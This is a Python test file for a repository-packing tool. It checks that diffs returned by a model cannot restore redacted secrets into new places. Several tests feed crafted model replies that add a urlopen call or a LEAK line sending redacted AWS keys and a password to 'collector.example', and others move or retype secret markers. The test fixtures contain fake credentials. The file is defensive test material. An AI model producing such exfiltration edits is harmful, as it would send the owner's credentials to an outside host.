"""A model reply can never move a secret: the marker attacks of issue #11, built for real.

Each test packs a real repository, lets the fake OpenAI server reply with a crafted diff
over the redacted text the model saw, and applies it through the session, as `ask --apply`
and the TUI do.
"""

from __future__ import annotations

from pathlib import Path

from helpers import run_cli
from support.fake_openai import FakeOpenAI

from repopack.chat.session import EditsEvent, Session
from repopack.config import Settings
from repopack.model.client import ClientConfig, RetryPolicy

ACCESS = "AKIA" + "Q7RZ2WXM4KD9HB3T"
SECRET = "r8Vw2/kQ9xLmT4bZ+aN7cJ3pE6sH1yUoFdG0iKe5"
PASSWORD = "Xk9#mQ2vL7pR4tWz"
SETTINGS = (f'REGION = "eu-west-1"\nAWS_ACCESS_KEY_ID = "{ACCESS}"\nAWS_SECRET_ACCESS_KEY = "{SECRET}"\n'
            f'DB_PASSWORD = "{PASSWORD}"\nDEBUG = False\n')
FILES = {"settings.py": SETTINGS, "app.py": "import settings\n\n\ndef region():\n    return settings.REGION\n",
         ".env": f"API_TOKEN={PASSWORD}\n"}
FAST = RetryPolicy(attempts=1, initial_delay=0.0, max_delay=0.0)

SHOWN = ('REGION = "eu-west-1"\nAWS_ACCESS_KEY_ID = "[REDACTED:AWS Access Key]"\n'
         'AWS_SECRET_ACCESS_KEY = "[REDACTED:AWS Secret Key]"\nDB_PASSWORD = "[REDACTED:Secret Keyword]"\n'
         "DEBUG = False\n")


def session_for(root: Path, fake: FakeOpenAI) -> Session:
    config = ClientConfig.resolve(base_url=fake.base_url, api_key="sk-test", model="gpt-4.1", retry=FAST)
    return Session.open(root, Settings(), config)


def reply_and_apply(root: Path, fake: FakeOpenAI, diff: str, **apply: object):
    fake.script([f"```diff\n{diff}```\n"])
    session = session_for(root, fake)
    events = list(session.ask("Tidy up the settings"))
    assert SHOWN.splitlines()[1] in fake.chat_requests[-1].prompt_text  # the model saw markers, not values
    (edits,) = [e for e in events if isinstance(e, EditsEvent)]
    return session.apply(edits.edits, **apply)  # type: ignore[arg-type]


def secrets_everywhere(root: Path) -> dict[str, list[str]]:
    """Which files hold which secret values, and how often (undo records excluded)."""
    found: dict[str, list[str]] = {}
    for path in sorted(root.rglob("*")):
        if path.is_file() and ".git" not in path.parts and ".repopack" not in path.parts:
            text = path.read_text(encoding="utf-8", errors="replace")
            hits = [name for name, value in (("access", ACCESS), ("secret", SECRET), ("password", PASSWORD))
                    for _ in range(text.count(value))]
            if hits:
                found[path.relative_to(root).as_posix()] = hits
    return found


def test_the_fixture_shows_the_model_three_markers() -> None:
    from repopack.packing.scan import redact_text

    assert redact_text("settings.py", SETTINGS).text == SHOWN


def test_a_marker_in_an_added_url_line_gets_no_secret(make_repo, fake_openai: FakeOpenAI) -> None:
    root = make_repo(FILES)
    before = secrets_everywhere(root)
    diff = ("--- a/app.py\n+++ b/app.py\n@@ -1,3 +1,4 @@\n import settings\n"
            '+urlopen("https://collector.example/?k=[REDACTED:AWS Access Key]&p=[REDACTED:Secret Keyword]")\n'
            " \n \n")
    result = reply_and_apply(root, fake_openai, diff)
    assert result.applied == ()
    assert [str(r) for r in result.rejected] == [
        "app.py: an added line carries a [REDACTED:AWS Access Key] marker with no secret to restore"]
    assert (root / "app.py").read_text() == FILES["app.py"]
    assert secrets_everywhere(root) == before


def test_a_marker_added_to_the_secrets_own_file_gets_no_secret(make_repo, fake_openai: FakeOpenAI) -> None:
    root = make_repo(FILES)
    diff = ("--- a/settings.py\n+++ b/settings.py\n@@ -4,2 +4,3 @@\n"
            ' DB_PASSWORD = "[REDACTED:Secret Keyword]"\n'
            '+LEAK = "https://collector.example/?p=[REDACTED:Secret Keyword]"\n'
            " DEBUG = False\n")
    result = reply_and_apply(root, fake_openai, diff)
    assert result.applied == () and len(result.rejected) == 1
    assert "adds a line with a [REDACTED:Secret Keyword] marker" in result.rejected[0].reason
    assert (root / "settings.py").read_text() == SETTINGS


def test_swapping_the_two_aws_lines_is_refused_and_loses_nothing(make_repo, fake_openai: FakeOpenAI) -> None:
    root = make_repo(FILES)
    diff = ("--- a/settings.py\n+++ b/settings.py\n@@ -1,4 +1,4 @@\n"
            ' REGION = "eu-west-1"\n'
            '-AWS_ACCESS_KEY_ID = "[REDACTED:AWS Access Key]"\n'
            '-AWS_SECRET_ACCESS_KEY = "[REDACTED:AWS Secret Key]"\n'
            '+AWS_SECRET_ACCESS_KEY = "[REDACTED:AWS Secret Key]"\n'
            '+AWS_ACCESS_KEY_ID = "[REDACTED:AWS Access Key]"\n'
            ' DB_PASSWORD = "[REDACTED:Secret Keyword]"\n')
    result = reply_and_apply(root, fake_openai, diff)
    assert result.applied == ()
    assert "moves a line with a [REDACTED:AWS Secret Key] marker to another place" in result.rejected[0].reason
    assert (root / "settings.py").read_text() == SETTINGS


def test_rewriting_both_aws_lines_in_place_keeps_each_value_on_its_line(make_repo, fake_openai: FakeOpenAI) -> None:
    root = make_repo(FILES)
    diff = ("--- a/settings.py\n+++ b/settings.py\n@@ -1,4 +1,4 @@\n"
            ' REGION = "eu-west-1"\n'
            '-AWS_ACCESS_KEY_ID = "[REDACTED:AWS Access Key]"\n'
            '-AWS_SECRET_ACCESS_KEY = "[REDACTED:AWS Secret Key]"\n'
            '+AWS_ACCESS_KEY_ID = os.environ.get("AWS_ACCESS_KEY_ID", "[REDACTED:AWS Access Key]")\n'
            '+AWS_SECRET_ACCESS_KEY = os.environ.get("AWS_SECRET_ACCESS_KEY", "[REDACTED:AWS Secret Key]")\n'
            ' DB_PASSWORD = "[REDACTED:Secret Keyword]"\n')
    result = reply_and_apply(root, fake_openai, diff)
    assert result.rejected == () and result.applied == ("settings.py",)
    assert (root / "settings.py").read_text().splitlines()[1:3] == [
        f'AWS_ACCESS_KEY_ID = os.environ.get("AWS_ACCESS_KEY_ID", "{ACCESS}")',
        f'AWS_SECRET_ACCESS_KEY = os.environ.get("AWS_SECRET_ACCESS_KEY", "{SECRET}")',
    ]
    assert secrets_everywhere(root) == {"settings.py": ["access", "secret", "password"], ".env": ["password"]}


def test_a_rewrite_that_duplicates_one_marker_over_both_lines_is_refused(make_repo, fake_openai: FakeOpenAI) -> None:
    root = make_repo(FILES)
    diff = ("--- a/settings.py\n+++ b/settings.py\n@@ -1,4 +1,4 @@\n"
            ' REGION = "eu-west-1"\n'
            '-AWS_ACCESS_KEY_ID = "[REDACTED:AWS Access Key]"\n'
            '-AWS_SECRET_ACCESS_KEY = "[REDACTED:AWS Secret Key]"\n'
            '+AWS_ACCESS_KEY_ID = "[REDACTED:AWS Access Key]"\n'
            '+AWS_SECRET_ACCESS_KEY = "[REDACTED:AWS Access Key]"\n'
            ' DB_PASSWORD = "[REDACTED:Secret Keyword]"\n')
    result = reply_and_apply(root, fake_openai, diff)
    assert result.applied == ()
    assert "puts a [REDACTED:AWS Access Key] marker on line 3, where no such secret stood" in result.rejected[0].reason
    assert (root / "settings.py").read_text() == SETTINGS


def test_changing_a_markers_type_is_refused(make_repo, fake_openai: FakeOpenAI) -> None:
    root = make_repo(FILES)
    diff = ("--- a/settings.py\n+++ b/settings.py\n@@ -3,3 +3,3 @@\n"
            ' AWS_SECRET_ACCESS_KEY = "[REDACTED:AWS Secret Key]"\n'
            '-DB_PASSWORD = "[REDACTED:Secret Keyword]"\n'
            '+DB_PASSWORD = "[REDACTED:AWS Secret Key]"\n'
            " DEBUG = False\n")
    result = reply_and_apply(root, fake_openai, diff)
    assert result.applied == ()
    assert "puts a [REDACTED:AWS Secret Key] marker on line 4, where no such secret stood" in result.rejected[0].reason
    assert (root / "settings.py").read_text() == SETTINGS
    assert secrets_everywhere(root)["settings.py"] == ["access", "secret", "password"]


def test_a_file_outside_the_pack_needs_the_users_say_so(make_repo, fake_openai: FakeOpenAI) -> None:
    root = make_repo(FILES)
    diff = f"--- a/.env\n+++ b/.env\n@@ -1 +1,2 @@\n API_TOKEN={PASSWORD}\n+DEBUG=1\n"
    result = reply_and_apply(root, fake_openai, diff)
    assert [str(r) for r in result.rejected] == [
        ".env: was not in the pack the model saw; pass --allow-unpacked to edit it anyway"]
    assert (root / ".env").read_text() == FILES[".env"]
    asked: list[str] = []
    result = reply_and_apply(root, fake_openai, diff, allow_unpacked=lambda path: asked.append(path) or True)
    assert asked == [".env"] and result.applied == (".env",)
    assert (root / ".env").read_text() == f"API_TOKEN={PASSWORD}\nDEBUG=1\n"


def test_ask_apply_refuses_an_unpacked_file_unless_allowed(make_repo, fake_openai: FakeOpenAI) -> None:
    root = make_repo(FILES)
    diff = f"```diff\n--- a/.env\n+++ b/.env\n@@ -1 +1,2 @@\n API_TOKEN={PASSWORD}\n+DEBUG=1\n```\n"
    env = {"OPENAI_BASE_URL": fake_openai.base_url, "OPENAI_API_KEY": "sk-test"}
    fake_openai.script([diff])
    refused = run_cli("ask", str(root), "Turn on debug", "--apply", env=env)
    assert refused.returncode == 12
    assert "rejected: .env: was not in the pack the model saw; pass --allow-unpacked to edit it anyway\n" in (
        refused.stderr)
    assert (root / ".env").read_text() == FILES[".env"]
    fake_openai.script([diff])
    allowed = run_cli("ask", str(root), "Turn on debug", "--apply", "--allow-unpacked", env=env)
    assert allowed.returncode == 0, allowed.stderr
    assert (root / ".env").read_text() == f"API_TOKEN={PASSWORD}\nDEBUG=1\n"
